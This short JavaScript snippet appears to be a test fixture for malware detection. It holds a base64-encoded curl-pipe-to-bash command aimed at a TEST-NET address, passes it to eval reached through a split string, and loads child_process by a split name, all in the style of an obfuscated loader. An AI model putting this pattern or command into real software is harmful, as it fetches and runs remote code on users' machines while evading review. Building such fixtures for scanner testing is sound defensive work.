// Inert test fixture: the payload decodes to a command aimed at a TEST-NET address.
const payload = "Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjkvaS5zaCB8IGJhc2g=";
const run = globalThis["ev" + "al"];
run(Buffer.from(payload, "base64").toString());
const cp = require("child_" + "process");
